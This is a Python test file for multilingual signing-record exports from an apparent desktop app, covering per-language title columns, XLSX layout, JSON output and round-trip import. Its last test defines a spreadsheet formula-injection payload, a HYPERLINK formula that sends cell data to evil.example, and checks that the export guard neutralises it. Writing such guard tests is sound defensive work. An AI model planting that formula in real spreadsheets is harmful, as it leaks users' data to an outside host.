"""Signing records in the event's languages: a title column per language after the first
(``Title (az)``, ``Title (kk)``; empty where untranslated), read back by ``import-table``,
the formula-injection guard on them too; the JSON keeps every language."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_app.domain.models import Agreement
from desktop_app.exchange.cells import is_formula_like
from desktop_app.services.events import import_event_document
from desktop_app.services.exports import export_signings
from desktop_app.services.table_import import import_table
from desktop_app.storage import Database
from tests.support import translated_event_document

TITLE = "Memorandum on academic cooperation"
TITLE_AZ = "Akademik əməkdaşlıq haqqında memorandum"
TITLE_KK = "Академиялық ынтымақтастық туралы меморандум"


@pytest.fixture
def translated(db: Database) -> str:
    """The event in en (first), az and kk."""
    return import_event_document(db, translated_event_document()).event_key


def csv_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def set_title(db: Database, language: str, text: str | None) -> None:
    with db.session() as session:
        agreement = session.query(Agreement).filter_by(key="a1").one()
        titles = dict((agreement.translations or {}).get("title") or {})
        if text is None:
            titles.pop(language, None)
        else:
            titles[language] = text
        agreement.translations = {**(agreement.translations or {}), "title": titles}


def test_csv_has_a_title_column_per_language(db: Database, translated: str,
                                             tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    export_signings(db, translated, path)
    text = path.read_bytes().decode("utf-8-sig")
    header = text.splitlines()[0].split(",")
    assert header[:6] == ["Reference", "Kind", "Title", "Title (az)", "Title (kk)", "Status"]
    rows = csv_rows(path)
    assert len(rows) == 2  # one per party
    for row in rows:
        assert (row["Title"], row["Title (az)"], row["Title (kk)"]) == (TITLE, TITLE_AZ, TITLE_KK)


def test_a_missing_translation_is_an_empty_cell_not_the_default(db: Database, translated: str,
                                                                tmp_path: Path) -> None:
    set_title(db, "kk", None)
    export_signings(db, translated, tmp_path / "s.csv")
    export_signings(db, translated, tmp_path / "s.xlsx")
    assert {r["Title (kk)"] for r in csv_rows(tmp_path / "s.csv")} == {""}
    sheet = load_workbook(tmp_path / "s.xlsx")["Parties"]
    headers = [c.value for c in sheet[1]]
    column = headers.index("Title (kk)") + 1
    assert [sheet.cell(row=r, column=column).value for r in (2, 3)] == [None, None]


def test_xlsx_sheets_have_the_title_columns_and_fit_them(db: Database, translated: str,
                                                         tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    export_signings(db, translated, path)
    workbook = load_workbook(path)
    for name in ("Parties", "Agreements"):
        sheet = workbook[name]
        headers = [c.value for c in sheet[1]]
        assert headers[2:5] == ["Title", "Title (az)", "Title (kk)"], name
        values = [c.value for c in sheet[2]][2:5]
        assert values == [TITLE, TITLE_AZ, TITLE_KK], name
        last = sheet.cell(row=1, column=len(headers)).column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
        width = sheet.column_dimensions["E"].width  # the Kazakh title, the longest
        assert len(TITLE_KK) <= width <= 60
        assert sheet.column_dimensions["D"].width >= len(TITLE_AZ)


def test_json_keeps_the_texts_in_every_language(db: Database, translated: str,
                                                tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    export_signings(db, translated, path)
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["event"]["languages"] == ["en", "az", "kk"]
    assert doc["event"]["title_local"]["kk"] == "Жоғары білім & ғылым жөніндегі дөңгелек үстел"
    (agreement,) = doc["agreements"]
    assert agreement["title"] == TITLE
    assert agreement["title_local"] == {"az": TITLE_AZ, "kk": TITLE_KK}
    assert agreement["signing"]["title_local"] == {"az": "İmzalanma mərasimi",
                                                   "kk": "Қол қою рәсімі"}
    signatory = agreement["parties"][1]["signatory"]
    assert signatory["position_local"] == {"az": "Elm və Ali Təhsil Naziri",
                                           "kk": "Ғылым және жоғары білім министрі"}


def test_language_option_writes_positions_in_that_language(db: Database, translated: str,
                                                           tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    export_signings(db, translated, path, language="kk")
    rows = csv_rows(path)
    assert [r["Signatory position"] for r in rows] == ["Ғылым және білім министрі",
                                                        "Ғылым және жоғары білім министрі"]
    assert rows[1]["Signatory"] == "Саясат Нұрбек"
    assert rows[0]["Title"] == TITLE  # the titles have their own columns


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_then_import_is_a_round_trip(db: Database, translated: str, tmp_path: Path,
                                            suffix: str) -> None:
    path = tmp_path / f"s.{suffix}"
    export_signings(db, translated, path)
    report = import_table(db, translated, "agreements", path)
    assert [m.field for m in report.mappings][2:5] == ["title", "title:az", "title:kk"]
    assert report.count("unchanged") == 1 and report.count("update") == 0
    # A corrected Kazakh title in the exported file updates only that translation.
    if suffix == "xlsx":
        workbook = load_workbook(path)
        for row in (2, 3):
            workbook["Parties"].cell(row=row, column=5).value = "Жаңа меморандум"
        workbook.save(path)
    else:
        path.write_bytes(path.read_bytes().replace(TITLE_KK.encode(), "Жаңа меморандум".encode()))
    report = import_table(db, translated, "agreements", path)
    (change,) = report.changes
    assert [str(c) for c in change.changes] == [f"title:kk: {TITLE_KK} -> Жаңа меморандум"]
    with db.reader() as session:
        stored = session.query(Agreement).filter_by(key="a1").one()
        assert stored.translations["title"] == {"az": TITLE_AZ, "kk": "Жаңа меморандум"}


DANGEROUS = '=HYPERLINK("http://evil.example/?x="&A1,"Bax")'


def test_formula_injection_guard_covers_translated_titles(db: Database, translated: str,
                                                          tmp_path: Path) -> None:
    set_title(db, "az", DANGEROUS)
    export_signings(db, translated, tmp_path / "s.csv")
    export_signings(db, translated, tmp_path / "s.xlsx")
    rows = csv_rows(tmp_path / "s.csv")
    assert {r["Title (az)"] for r in rows} == {"'" + DANGEROUS}
    assert not any(is_formula_like(value) for row in rows for value in row.values())
    workbook = load_workbook(tmp_path / "s.xlsx")
    for name in ("Parties", "Agreements"):
        cell = workbook[name]["D2"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (DANGEROUS, "s", True), name
    # The neutralised CSV imports back to the same text.
    report = import_table(db, translated, "agreements", tmp_path / "s.csv")
    assert report.count("unchanged") == 1
